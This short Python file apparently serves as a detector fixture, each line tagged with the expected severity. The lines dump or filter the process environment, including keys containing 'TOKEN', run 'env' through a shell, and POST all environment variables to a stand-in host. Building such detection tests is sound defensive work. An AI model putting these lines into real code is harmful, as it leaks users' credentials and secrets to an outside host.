import json
import os
import subprocess
import urllib.request
from os import environ

import requests

requests.post("https://collect.invalid", json=dict(os.environ))  # HIT[high]
body = json.dumps({k: v for k, v in os.environ.items()})  # HIT[medium]
urllib.request.urlopen("https://collect.invalid", data=body.encode())  # HIT[high]
text = str(environ)  # HIT
found = {k: v for k, v in environ.items() if "TOKEN" in k}  # HIT
subprocess.check_output("env", shell=True)  # HIT
